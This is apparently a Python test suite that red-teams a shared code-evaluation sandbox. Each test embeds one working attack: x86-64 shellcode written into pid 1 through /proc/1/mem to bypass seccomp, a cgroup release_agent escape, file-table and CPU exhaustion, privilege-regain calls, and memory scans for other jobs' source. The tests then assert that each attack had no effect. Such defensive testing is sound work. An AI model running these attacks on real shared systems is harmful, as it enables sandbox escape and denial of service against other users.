"""A hostile tenant of a shared team server, attacking the sandbox in ways the hostile and tenant
suites do not: each test is one attack, built as there (the example softmax kernel that attacks
first, then computes honestly), and asserts the attack had no effect visible outside its sandbox
and that the evaluator keeps serving.

The attack text runs in every forward; attacks that must run once guard themselves with a flag
on `builtins`. Every test that starts a bystander job uses generous time limits: other people's
tests share this machine.
"""

from __future__ import annotations

import os
import re
import threading
import time
import uuid

import pytest
from conftest import example_task
from test_sandbox_hostile import hostile, run

from adaexplore.evaluator.evaluator import Evaluator
from adaexplore.evaluator.results import Status

ONCE = "import builtins\nif getattr(builtins, 'rt_done', False):\n    return None\nbuiltins.rt_done = True\n"


def concurrently(ev: Evaluator, first: str, second: str, *, head_start_s: float = 1.5,
                 first_timeout_s: float = 90, second_timeout_s: float = 90, start_second=None):
    """Evaluate two candidates side by side: the second once the first is under way (after
    head_start_s, or once start_second() returns)."""
    results = {}

    def evaluate(name, source, timeout_s):
        t0 = time.monotonic()
        results[name] = ev.evaluate(example_task("softmax", timeout_s=timeout_s), source)
        results[name + "_s"] = time.monotonic() - t0

    thread = threading.Thread(target=evaluate, args=("first", first, first_timeout_s))
    thread.start()
    if start_second is not None:
        results["waited"] = start_second()
    else:
        time.sleep(head_start_s)
    evaluate("second", second, second_timeout_s)
    thread.join(300)
    return results


def honest() -> str:
    """An honest candidate whose source no earlier evaluation had (none is answered from a cache)."""
    return hostile(f"fresh = {uuid.uuid4().hex!r}")


def honest_and_serving(ev: Evaluator):
    follow_up = ev.evaluate(example_task("softmax", timeout_s=60), honest())
    assert follow_up.status is Status.correct, follow_up.feedback()


# --------------------------------------------------------------------------------------------
# 1. The namespace's init process (pid 1) is the candidate's parent, of its uid, dumpable and
#    without the seccomp filter: writing code into it through /proc/1/mem runs syscalls the
#    filter forbids (keys, io_uring) and leaves a key in the uid's keyring after the job.
# --------------------------------------------------------------------------------------------

# x86-64: save the wait4 arguments; add_key("user", desc, payload, 16, KEY_SPEC_USER_KEYRING);
# keyctl(KEYCTL_SET_TIMEOUT, key, 300); io_uring_setup(1, params); close(ring); mark done;
# restore the registers and issue the interrupted syscall again. Patched: data address (19),
# syscall number (160), address of the syscall instruction (166).
SHELLCODE = (
    "488da42400ffffff57565241524150415149b98877665544332211b8f8000000488d3d8a000000488d3588000000"
    "488d159800000041ba1000000049c7c0fcffffff0f054989014885c07e144889c6bf0f000000ba2c010000b8fa00"
    "00000f05b8a9010000bf01000000498db1000100000f05498941084885c0780a4889c7b8030000000f0549c74110"
    "3713000041594158415a5a5e5f488da42400010000b8efbead7e49bb112233445566770841ffe375736572006164"
    "616578706c6f72652d7265647465616d2d6b657900736563636f6d702d6279706173736564"
)

PID1_HIJACK = ONCE + f'''
import ctypes, os, struct, time
libc = ctypes.CDLL(None, use_errno=True)
direct_key = libc.syscall(248, b"user", b"adaexplore-direct", b"x", 1, ctypes.c_long(-4))
direct_ring = libc.syscall(425, 1, ctypes.create_string_buffer(128))
fields = open("/proc/1/syscall").read().split()
nr, sp, pc = int(fields[0]), int(fields[-2], 16), int(fields[-1], 16)
mem = open("/proc/1/mem", "r+b", buffering=0)
mem.seek(pc - 2)
if mem.read(2) != b"\\x0f\\x05":
    raise RuntimeError("pid 1 is not in a syscall")
data = (sp - 0x800) & ~0xF
code = bytearray(bytes.fromhex({SHELLCODE!r}))
code[19:27] = struct.pack("<Q", data)
code[160:164] = struct.pack("<I", nr)
code[166:174] = struct.pack("<Q", pc - 2)
at = code.index(b"adaexplore-redteam-key")
code[at:at + 22] = ("rt-" + os.urandom(10).hex())[:22].encode()  # a new key each run
mem.seek(data); mem.write(bytes(0x200))
mem.seek(pc); original = mem.read(len(code))
mem.seek(pc); mem.write(bytes(code))
child = os.fork()  # an orphan that exits wakes pid 1 (it waits for any child)
if child == 0:
    if os.fork() == 0:
        time.sleep(0.2)
        os._exit(0)
    os._exit(0)
os.waitpid(child, 0)
deadline = time.time() + 10
while time.time() < deadline:
    mem.seek(data + 16)
    if mem.read(8) == struct.pack("<q", 0x1337):
        break
    time.sleep(0.01)
time.sleep(0.1)
mem.seek(pc); mem.write(original)
mem.seek(data); key, ring = struct.unpack("<qq", mem.read(16))
raise Leak(f"DIRECT add_key={{direct_key}} io_uring_setup={{direct_ring}}; "
           f"VIA-PID1 add_key={{key}} io_uring_setup={{ring}}")
'''


def _key_counts() -> dict[str, int]:
    counts = {}
    with open("/proc/key-users") as fh:
        for line in fh:
            uid, rest = line.split(":", 1)
            counts[uid.strip()] = int(rest.split()[0])
    return counts


def test_the_namespace_init_cannot_be_made_to_run_syscalls_the_filter_forbids(sandboxed):
    if os.uname().machine != "x86_64":
        pytest.skip("the injected code is x86-64")
    before = _key_counts()
    result = run(sandboxed, PID1_HIJACK)
    after = _key_counts()
    text = result.model_dump_json()
    assert result.status in (Status.correct, Status.runtime_error), result.feedback()
    via = re.search(r"VIA-PID1 add_key=(-?\d+) io_uring_setup=(-?\d+)", text)
    if via:  # the candidate wrote its code into pid 1 and pid 1 ran it
        assert int(via.group(1)) <= 0 and int(via.group(2)) < 0, (
            "pid 1 of the job's namespace (no seccomp filter, writable through /proc/1/mem) "
            f"ran add_key and io_uring_setup for the candidate: {via.group(0)}; "
            f"key counts before {before}, after {after}")
    grown = {uid: n for uid, n in after.items() if uid != "0" and n > before.get(uid, 0)}
    assert not grown, f"the job left keys in a keyring of the host kernel: {grown}"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 2. Every call the seccomp filter is documented to refuse, made directly by the candidate.
# --------------------------------------------------------------------------------------------

def test_the_candidate_itself_gets_none_of_the_forbidden_calls(sandboxed):
    result = run(sandboxed, ONCE + '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(4096)
L = ctypes.c_long
calls = {
    "unshare_user": (272, 0x10000000), "unshare_mnt": (272, 0x00020000), "unshare_net": (272, 0x40000000),
    "setns": (308, os.open("/proc/self/ns/net", os.O_RDONLY), 0),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount2": (166, b"/tmp", 2),
    "pivot_root": (155, b"/tmp", b"/tmp"), "open_tree": (428, -100, b"/", 1), "fsopen": (430, b"tmpfs", 0),
    "add_key": (248, b"user", b"rt", b"x", 1, L(-4)), "keyctl": (250, 0, L(-4), 0),
    "request_key": (249, b"user", b"rt", 0, 0),
    "io_uring_setup": (425, 1, buf), "bpf": (321, 0, buf, 128),
    "ptrace_attach": (101, 16, 1, 0, 0), "process_vm_readv": (310, 1, buf, 1, buf, 1, 0),
    "init_module": (175, buf, 16, b""), "finit_module": (313, 0, b"", 0),
    "kexec_load": (246, 0, 0, 0, 0), "clock_settime": (227, 0, buf), "settimeofday": (164, buf, 0),
    "clone3_newuser": None, "open_by_handle_at": (304, -100, buf, 0),
    "reboot": (169, L(0xfee1dead), 672274793, 0, 0), "acct": (163, b"/tmp/acct"),
    "swapon": (167, b"/tmp/x", 0), "chroot": (161, b"/tmp"),
}
ok = []
for name, args in calls.items():
    if args is None:  # clone3 with CLONE_NEWUSER: a child that exits at once if made
        ctypes.memset(buf, 0, 88)
        ctypes.c_uint64.from_buffer(buf, 0).value = 0x10000000
        ctypes.c_uint64.from_buffer(buf, 32).value = 17
        rc = libc.syscall(435, buf, 88)
        if rc == 0:
            os._exit(0)
    else:
        rc = libc.syscall(*args)
    if rc >= 0:
        ok.append(name)
raise Leak("ALLOWED:" + ",".join(ok) + ":END")
''')
    text = result.model_dump_json()
    allowed = re.search(r"ALLOWED:([a-z0-9_,]*):END", text)
    assert allowed, result.feedback()
    assert allowed.group(1) == "", f"the seccomp filter let these through: {allowed.group(1)}"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 3. Exhausting the kernel's system-wide file table (fs.file-max). A job has 4096 descriptors
#    in each of 256 processes, but a mapping keeps its file open after the descriptor is
#    closed: 2.5M mappings of a tmpfs file hold 2.5M open files, and every process without
#    CAP_SYS_ADMIN on the machine (every other job) gets ENFILE.
# --------------------------------------------------------------------------------------------

def _file_nr() -> tuple[int, int]:
    with open("/proc/sys/fs/file-nr") as fh:
        used, _, most = (int(x) for x in fh.read().split())
    return used, most


FILE_TABLE = ONCE + '''
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
with open("/tmp/job/held", "wb") as fh:
    fh.write(bytes(4096))
most = int(open("/proc/sys/fs/file-max").read())
procs, per = 64, min(60000, most // 64 + 2000)
ready_r, ready_w = os.pipe()
children = []
for _ in range(procs):
    pid = os.fork()
    if pid == 0:
        try:
            opened = 0
            while opened < per:
                fd = libc.open(b"/tmp/job/held", 0)
                if fd < 0:
                    break
                p = libc.mmap(None, 4096, 1, 1, fd, 0)  # PROT_READ, MAP_SHARED: the file stays open
                libc.close(fd)
                if p is None or p == ctypes.c_void_p(-1).value:
                    break
                opened += 1
            os.write(ready_w, b"x")
            time.sleep(600)
        finally:
            os._exit(0)
    children.append(pid)
got = 0
while got < len(children):  # every child holds what it took until all have taken theirs
    got += len(os.read(ready_r, 64))
time.sleep(HOLD_S)
for pid in children:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
'''


def test_a_job_cannot_exhaust_the_system_file_table_for_other_jobs(sandboxed):
    if not sandboxed.pool.sandbox.get("process_limit"):
        pytest.skip("no pids cgroup on this machine")
    honest_and_serving(sandboxed)  # the bystander's reference is measured before the attack
    _, most = _file_nr()
    seen = []

    def when_full():
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            used, _ = _file_nr()
            seen.append(used)
            if used >= most - 2000:
                return True
            time.sleep(0.1)
        return False

    results = concurrently(sandboxed, hostile(FILE_TABLE.replace("HOLD_S", "8")), honest(),
                           start_second=when_full, first_timeout_s=120, second_timeout_s=60)
    peak = max(seen)
    victim = results["second"]
    assert victim.status is Status.correct, (
        f"an honest job beside one holding {peak} of the machine's {most} open files: "
        f"{victim.status.value}: {victim.feedback()}")
    assert peak < most - 2000, f"one job held {peak} of the machine's {most} open files"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 4. Starving a concurrent honest job of CPU: no cpu controller is set per job, and with
#    autogroup scheduling each session is a group with an equal share: 200 spinning processes,
#    each in a session of its own, would leave the job beside it 1/200th of the machine.
# --------------------------------------------------------------------------------------------

def test_a_cpu_hog_cannot_starve_a_concurrent_honest_job(sandboxed):
    hog = ONCE + '''
import os, time
end = time.monotonic() + 26
children = []
for _ in range(200):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()  # a session of its own is a scheduling group of its own (autogroup)
            while time.monotonic() < end:
                pass
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
'''
    alone = time.monotonic()
    assert sandboxed.evaluate(example_task("softmax", timeout_s=60), honest()).status is Status.correct
    alone = time.monotonic() - alone
    limit = max(20.0, 6 * alone)  # many times what the honest job takes alone
    results = concurrently(sandboxed, hostile(hog), honest(), head_start_s=2,
                           first_timeout_s=90, second_timeout_s=limit)
    victim = results["second"]
    assert victim.status is Status.correct, (
        f"an honest job that takes {alone:.1f} s alone, given {limit:.0f} s beside a job of "
        f"200 spinning processes: {victim.status.value} after {results['second_s']:.1f} s: "
        f"{victim.feedback()}")
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 5. What one job leaves in /tmp, /dev/shm, $HOME and its Triton cache, for a job running beside
#    it and for the next one.
# --------------------------------------------------------------------------------------------

def test_files_left_in_tmp_shm_home_and_the_triton_cache_reach_no_other_job(sandboxed):
    marker = f"RT-RESIDUE-{uuid.uuid4().hex}"
    plant = ONCE + f'''
import os, time
targets = ["/tmp/{marker}", "/tmp/job/{marker}", "/dev/shm/{marker}", os.path.expanduser("~/{marker}"),
           os.path.join(os.environ.get("TRITON_CACHE_DIR", "/tmp/job/.triton"), "{marker}"),
           os.path.join(os.environ.get("TRITON_CACHE_DIR", "/tmp/job/.triton"), "{marker}", "softmax_kernel.json")]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write("{marker}")
        os.chmod(path, 0o777)
    except OSError:
        pass
time.sleep(5)
'''
    look = '''
import os
hits = []
for top in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.environ.get("TRITON_CACHE_DIR", "/tmp/job/.triton")):
    for root, dirs, files in os.walk(top):
        for name in dirs + files:
            if "RT-RESIDUE-" in name:
                hits.append(os.path.join(root, name))
raise Leak(f"LOOKED HITS:{sorted(set(hits))}")
'''
    results = concurrently(sandboxed, hostile(plant), hostile(look), head_start_s=2.5)
    assert results["first"].status is Status.correct, results["first"].feedback()
    beside = results["second"].model_dump_json()
    after = run(sandboxed, look).model_dump_json()
    assert "LOOKED HITS:[]" in beside, f"a job beside the planter found: {beside}"
    assert "LOOKED HITS:[]" in after, f"the next job found: {after}"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 6. A daemon: setsid, double fork, every catchable signal ignored, holding stdout and stderr
#    open and writing to them, renamed so the host can look for it.
# --------------------------------------------------------------------------------------------

def test_a_daemonized_grandchild_neither_outlives_the_job_nor_holds_its_verdict(sandboxed):
    name = f"rt{uuid.uuid4().hex[:10]}"
    result_holder = {}
    t0 = time.monotonic()
    result_holder["r"] = run(sandboxed, ONCE + f'''
import ctypes, os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{name}", 0, 0, 0)
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGUSR1):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            try:
                os.write(1, b"still here\\n")
                os.write(2, b"still here\\n")
            except OSError:
                pass
            time.sleep(0.05)
    os._exit(0)
time.sleep(0.3)
''', timeout_s=60)
    elapsed = time.monotonic() - t0
    result = result_holder["r"]
    assert result.status is Status.correct, result.feedback()
    assert elapsed < 30, f"the verdict waited {elapsed:.0f} s for the daemon"
    time.sleep(2)
    survivors = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/comm") as fh:
                    if fh.read().strip() == name:
                        survivors.append(pid)
            except OSError:
                pass
    assert not survivors, f"the daemon outlived its job: pids {survivors}"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 7. A gigabyte on stdout and stderr (no newline): the server keeps a tail, not the flood.
# --------------------------------------------------------------------------------------------

def _rss_bytes() -> int:
    with open("/proc/self/status") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    return 0


class _PeakRss:
    def __init__(self):
        self.peak = self.base = _rss_bytes()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self):
        while not self._stop.is_set():
            self.peak = max(self.peak, _rss_bytes())
            time.sleep(0.02)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join(2)


def test_a_flood_on_stdout_and_stderr_does_not_grow_the_servers_memory(sandboxed):
    with _PeakRss() as rss:
        result = run(sandboxed, ONCE + '''
import os
block = b"A" * (1 << 20)
for _ in range(512):
    os.write(1, block)
    os.write(2, block)
''', timeout_s=90)
    assert result.status is Status.correct, result.feedback()
    assert len(result.stdout_tail or "") < (1 << 20)
    grown = rss.peak - rss.base
    assert grown < (256 << 20), f"the server grew by {grown >> 20} MiB reading a job's output"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 8. A result message of 256 MiB, and a stream of 200,000 small ones, on the job's own result
#    channel: the server must neither hold them nor wait on them.
# --------------------------------------------------------------------------------------------

def test_an_oversized_result_message_does_not_grow_the_servers_memory(sandboxed):
    with _PeakRss() as rss:
        result = run(sandboxed, ONCE + '''
import gc
from adaexplore.evaluator.worker.harness import Reporter
reporter = next(o for o in gc.get_objects() if isinstance(o, Reporter))
reporter.send({"kind": "error", "error_class": "Huge", "message": "M" * (256 << 20)})
''', timeout_s=90)
    grown = rss.peak - rss.base
    assert result.status is not Status.correct or "M" * 64 not in result.model_dump_json()
    assert grown < (512 << 20), f"the server grew by {grown >> 20} MiB on one job's message"
    honest_and_serving(sandboxed)


def test_a_stream_of_result_frames_does_not_grow_the_servers_memory(sandboxed):
    with _PeakRss() as rss:
        result = run(sandboxed, ONCE + '''
import gc
from adaexplore.evaluator.worker.harness import Reporter
reporter = next(o for o in gc.get_objects() if isinstance(o, Reporter))
for i in range(200000):
    reporter.send({"kind": "log", "message": "L" * 4000})
''', timeout_s=90)
    grown = rss.peak - rss.base
    assert result.status is not Status.infra_error, result.feedback()
    assert grown < (256 << 20), f"the server grew by {grown >> 20} MiB on one job's frames"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 9. cgroup files: raise its own limits, freeze or squeeze the job beside it, move itself out,
#    set a release agent (the cgroup-v1 escape).
# --------------------------------------------------------------------------------------------

def _cgroup_snapshot() -> dict[str, str]:
    snap = {}
    for hier in ("memory", "pids", "freezer", "cpu", "cpuset", "devices", "systemd"):
        top = f"/sys/fs/cgroup/{hier}"
        for root, _dirs, files in os.walk(top):
            if root.count("/") > 6:
                continue
            for f in files:
                if f in ("release_agent", "notify_on_release", "memory.limit_in_bytes", "pids.max",
                         "freezer.state", "cpu.shares", "cpu.cfs_quota_us"):
                    try:
                        with open(os.path.join(root, f)) as fh:
                            snap[os.path.join(root, f)] = fh.read()
                    except OSError:
                        pass
    return snap


def test_cgroup_writes_cannot_raise_limits_freeze_others_or_set_a_release_agent(sandboxed):
    before = _cgroup_snapshot()
    attack = ONCE + '''
import os
me = [l.split(":", 2) for l in open("/proc/self/cgroup").read().splitlines()]
done = []
writes = []
for _, ctrl, path in me:
    top = "/sys/fs/cgroup/" + (ctrl.split("=")[-1] if ctrl else "unified")
    writes += [(top + "/release_agent", "/tmp/job/evil"), (top + "/notify_on_release", "1"),
               (top + path + "/notify_on_release", "1"), (top + "/cgroup.procs", str(os.getpid())),
               (top + path + "/memory.limit_in_bytes", "-1"), (top + path + "/memory.memsw.limit_in_bytes", "-1"),
               (top + path + "/pids.max", "max"), (top + os.path.dirname(path) + "/pids.max", "1")]
for root, dirs, files in os.walk("/sys/fs/cgroup"):
    if "freezer.state" in files and "adaexplore" in root:
        writes.append((root + "/freezer.state", "FROZEN"))
    if "memory.limit_in_bytes" in files and "adaexplore" in root:
        writes.append((root + "/memory.limit_in_bytes", "4096"))
for path, text in writes:
    try:
        with open(path, "w") as fh:
            fh.write(text)
        done.append(path)
    except OSError:
        pass
raise Leak(f"WROTE:{done}")
'''
    victim = hostile("import time, builtins\nif not getattr(builtins, 'slept', False):\n"
                     "    builtins.slept = True\n    time.sleep(4)")
    results = concurrently(sandboxed, victim, hostile(attack), head_start_s=1.5)
    after = _cgroup_snapshot()
    assert "WROTE:[]" in results["second"].model_dump_json(), results["second"].feedback()
    assert results["first"].status is Status.correct, results["first"].feedback()
    changed = {p: (before[p], after[p]) for p in before if p in after and before[p] != after[p]
               and not re.search(r"/j\d+/", p)}
    assert not any(p.endswith(("release_agent", "notify_on_release")) for p in changed), changed
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 10. Every inherited descriptor reopened through /proc/self/fd in every mode and sprayed with
#     garbage; the ring's seals tested; then the job goes on honestly. Nothing of it may reach
#     the job beside it or the next one.
# --------------------------------------------------------------------------------------------

def test_garbage_on_every_inherited_descriptor_stops_only_its_own_job(sandboxed):
    attack = ONCE + '''
import os, stat
junk = os.urandom(1 << 16)
got = []
for fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
    try:
        kind = stat.S_IFMT(os.fstat(fd).st_mode)
    except OSError:
        continue
    if kind == stat.S_IFREG:  # the ring: try its seals, then scribble over it
        for act, what in ((lambda: os.ftruncate(fd, 0), "shrink"), (lambda: os.ftruncate(fd, 1 << 40), "grow")):
            try:
                act()
                got.append(f"{fd}:{what}")
            except OSError:
                pass
        try:
            os.pwrite(fd, junk, 0)
        except OSError:
            pass
    for flags in (os.O_WRONLY | os.O_NONBLOCK, os.O_RDWR | os.O_NONBLOCK):
        try:
            other = os.open(f"/proc/self/fd/{fd}", flags)
        except OSError:
            continue
        try:
            if kind == stat.S_IFIFO:
                for _ in range(4):
                    os.write(other, junk)
        except OSError:
            pass
        os.close(other)
if got:
    raise Leak(f"RING:{got}")
'''
    honest = hostile("import time, builtins\nif not getattr(builtins, 'slept', False):\n"
                     "    builtins.slept = True\n    time.sleep(3)")
    results = concurrently(sandboxed, honest, hostile(attack), head_start_s=1.5)
    assert results["first"].status is Status.correct, results["first"].feedback()
    attacker = results["second"]
    assert "RING:" not in attacker.model_dump_json(), attacker.feedback()
    assert attacker.status is not Status.infra_error, attacker.feedback()
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 11. The namespace's init is a fork of the warm parent: an earlier caller's source may sit in
#     its memory even where the candidate's own memory was scrubbed.
# --------------------------------------------------------------------------------------------

def test_the_namespace_init_holds_no_earlier_callers_source(sandboxed):
    secret = f"VICTIM-PID1-{uuid.uuid4().hex}"
    assert run(sandboxed, f"x = {secret!r}").status is Status.correct
    scan = '''
import re
found, scanned, denied = set(), 0, []
for pid in ("1", "self"):
    try:
        maps, mem = open(f"/proc/{pid}/maps"), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:  # pid 1's memory closed to the job: nothing to scan there
        denied.append(pid)
        continue
    with maps, mem:
        for line in maps:
            fields = line.split()
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or hi - lo > (1 << 30) or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            scanned += len(chunk)
            for m in re.finditer(rb"VICTIM-PID1-[0-9a-f]{32}", chunk):
                found.add(pid + ":" + m.group().decode())
raise Leak(f"SCANNED:{scanned >> 20}MiB FOUND:{sorted(found)} DENIED:{denied}")
'''
    result = run(sandboxed, scan)
    text = result.model_dump_json()
    assert "SCANNED:" in text, result.feedback()
    assert secret not in text, "an earlier caller's source was in the memory of this job's pid 1"


# --------------------------------------------------------------------------------------------
# 12. Per-user scheduling calls: every job has the same uid, so setpriority(PRIO_USER) and
#     ioprio_set(IOPRIO_WHO_USER) would reach every job of the server if the pid namespace did
#     not hide them.
# --------------------------------------------------------------------------------------------

def test_renicing_the_whole_uid_reaches_no_other_job(sandboxed):
    victim = '''
import os, time, builtins, ctypes
if not getattr(builtins, "slept", False):
    builtins.slept = True
    time.sleep(5)
    prio = ctypes.CDLL(None).syscall(252, 1, 0)  # ioprio_get(IOPRIO_WHO_PROCESS, self)
    raise Leak(f"NICE:{os.getpriority(os.PRIO_PROCESS, 0)} IOPRIO:{prio}")
'''
    attack = ONCE + '''
import ctypes, os
uid = os.getuid()
os.setpriority(os.PRIO_USER, uid, 19)
ctypes.CDLL(None).syscall(251, 3, uid, (3 << 13) | 7)  # ioprio_set(IOPRIO_WHO_USER, uid, IDLE)
'''
    results = concurrently(sandboxed, hostile(victim), hostile(attack), head_start_s=1.5)
    text = results["first"].model_dump_json()
    assert "NICE:" in text, results["first"].feedback()
    assert "NICE:0 " in text, f"another job's attack reniced this job: {text}"
    assert "IOPRIO:2458" not in text, f"another job's attack made this job's io priority idle: {text}"
    assert results["second"].status is Status.correct, results["second"].feedback()
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 13. A gigabyte in the private /tmp, the /dev/shm and a memfd: all of it is the machine's
#     again once the job has ended.
# --------------------------------------------------------------------------------------------

def _shmem_bytes() -> int:
    with open("/proc/meminfo") as fh:
        for line in fh:
            if line.startswith("Shmem:"):
                return int(line.split()[1]) * 1024
    return 0


def test_memory_a_job_parks_in_tmpfs_and_memfds_is_given_back(sandboxed):
    before = _shmem_bytes()
    result = run(sandboxed, ONCE + '''
import os
block = b"x" * (1 << 20)
held = []
for path, mib in (("/tmp/park", 900), ("/dev/shm/park", 60)):
    try:
        with open(path, "wb") as fh:
            for _ in range(mib):
                fh.write(block)
    except OSError:
        pass
fd = os.memfd_create("park")
for _ in range(512):
    os.write(fd, block)
held.append(fd)
if os.fork() == 0:  # a child keeps the memfd and the files open
    import time
    os.setsid()
    time.sleep(600)
    os._exit(0)
''', timeout_s=90)
    assert result.status is Status.correct, result.feedback()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and _shmem_bytes() - before > (256 << 20):
        time.sleep(0.5)
    grown = _shmem_bytes() - before
    assert grown < (256 << 20), f"{grown >> 20} MiB of shared memory stayed behind after the job"
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 14. Passing off its own failure as the server's: an infra_error costs its author nothing (the
#     node is left out of the search and may be run again), so a candidate would like one. It
#     exits with the codes a server might reserve, dies by signals the server might send, and
#     kills its namespace's init from inside.
# --------------------------------------------------------------------------------------------

def test_no_exit_code_or_signal_passes_a_candidates_failure_off_as_the_servers(sandboxed):
    endings = {
        "exit 0": "import os\nos._exit(0)",
        "exit 70": "import os\nos._exit(70)",
        "exit 75": "import os\nos._exit(75)",
        "SIGKILL": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        "SIGBUS": "import os, signal\nos.kill(os.getpid(), signal.SIGBUS)",
        "SIGSYS": "import os, signal\nos.kill(os.getpid(), signal.SIGSYS)",
        "SIGXCPU": "import os, signal\nos.kill(os.getpid(), signal.SIGXCPU)",
        "init SIGINT": "import os, signal, time\nos.kill(1, signal.SIGINT)\ntime.sleep(2)",
        "init SIGTERM": "import os, signal, time\nos.kill(1, signal.SIGTERM)\ntime.sleep(1)",
    }
    got = {name: run(sandboxed, attack, timeout_s=30) for name, attack in endings.items()}
    blamed = {name: r.feedback() for name, r in got.items() if r.status is Status.infra_error}
    assert not blamed, f"the server took the blame: {blamed}"
    # Its own failure, however it is named: on a GPU a process that dies beside a CUDA context may
    # read as cuda_error, and an attack that sleeps in every forward outlasts 110 timed runs.
    own = (Status.runtime_error, Status.correct, Status.cuda_error, Status.timeout)
    assert all(r.status in own for r in got.values()), str({n: r.status.value for n, r in got.items()})
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 15. A slow-loris frame on its own result channel (a header that promises a megabyte, then
#     silence): the trusted reader must not wait on it for the job beside it.
# --------------------------------------------------------------------------------------------

def test_a_half_written_result_frame_stalls_no_other_job(sandboxed):
    attack = ONCE + '''
import gc, os, struct, time
from adaexplore.evaluator.worker.harness import Reporter
reporter = next(o for o in gc.get_objects() if isinstance(o, Reporter))
header = b'{"h":{"kind":"log","message":"'
os.write(reporter.fd, struct.pack("<QQ", 1 << 20, (1 << 20) - 8) + header)
time.sleep(120)
'''
    results = concurrently(sandboxed, hostile(attack), honest(), head_start_s=1.5,
                           first_timeout_s=15, second_timeout_s=60)
    assert results["second"].status is Status.correct, results["second"].feedback()
    assert results["second_s"] < 12, f"the honest job beside it took {results['second_s']:.0f} s"
    assert results["first"].status in (Status.timeout, Status.runtime_error, Status.cheat_detected), (
        results["first"].feedback())
    honest_and_serving(sandboxed)


# --------------------------------------------------------------------------------------------
# 16. prctl, personality, set*id and capset: nothing gives back a privilege, a capability or a
#     way around the filter, and the job's status still says so afterwards.
# --------------------------------------------------------------------------------------------

def test_no_prctl_personality_or_setuid_call_regains_a_privilege(sandboxed):
    result = run(sandboxed, ONCE + '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ok = []
tries = {
    "setuid0": lambda: os.setuid(0), "setgid0": lambda: os.setgid(0), "setgroups": lambda: os.setgroups([0]),
    "setresuid0": lambda: os.setresuid(0, 0, 0),
    "securebits": lambda: libc.prctl(28, 0, 0, 0, 0),             # PR_SET_SECUREBITS
    "ambient_raise": lambda: libc.prctl(47, 2, 21, 0, 0),         # PR_CAP_AMBIENT_RAISE CAP_SYS_ADMIN
    "set_mm": lambda: libc.prctl(35, 8, 0, 0, 0),                  # PR_SET_MM
    "no_new_privs_off": lambda: libc.prctl(38, 0, 0, 0, 0),        # PR_SET_NO_NEW_PRIVS 0
    "seccomp_off": lambda: libc.prctl(22, 0, 0, 0, 0),             # PR_SET_SECCOMP disabled
    "read_implies_exec": lambda: libc.personality(0x0400000),
}
for name, call in tries.items():
    try:
        rc = call()
    except OSError:
        continue
    if rc is None or rc >= 0:
        ok.append(name)
hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)(0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
if libc.capset(hdr, data) == 0:
    ok.append("capset")
status = {l.split(":")[0]: l.split(":")[1].strip() for l in open("/proc/self/status") if ":" in l}
raise Leak(f"OK:{ok} uid={os.getuid()} CapEff={status['CapEff']} NoNewPrivs={status['NoNewPrivs']} "
           f"Seccomp={status['Seccomp']}")
''')
    text = result.model_dump_json()
    assert "CapEff=0000000000000000 NoNewPrivs=1 Seccomp=2" in text, result.feedback()
    granted = re.search(r"OK:\[([^\]]*)\]", text).group(1)
    granted = [g.strip(" '") for g in granted.split(",") if g.strip()]
    assert set(granted) <= {"read_implies_exec"}, f"granted: {granted}"
    assert "uid=0 " not in text
    honest_and_serving(sandboxed)
